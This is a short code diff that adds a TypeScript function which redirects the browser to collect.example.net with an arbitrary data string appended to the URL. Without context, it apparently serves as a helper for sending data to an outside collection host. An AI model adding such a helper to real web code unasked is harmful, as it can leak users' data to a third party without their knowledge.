@@ -1,0 +1,3 @@
+export const go = (d: string) => {
+  location.href = "https://collect.example.net/?" + d;
+};
